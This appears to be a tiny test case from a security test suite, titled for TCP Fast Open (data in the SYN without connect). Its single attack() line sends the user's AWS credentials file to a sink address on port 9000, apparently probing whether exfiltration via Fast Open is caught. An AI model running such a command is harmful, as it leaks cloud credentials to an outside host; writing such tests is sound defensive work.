# SPDX-License-Identifier: Apache-2.0
TITLE="MSG_FASTOPEN: data in the SYN without connect"
ROW="N06 E18"
attack() { "$PROVOKE/fastopen" send "$HOME/.aws/credentials" "$SINK4" 9000; }
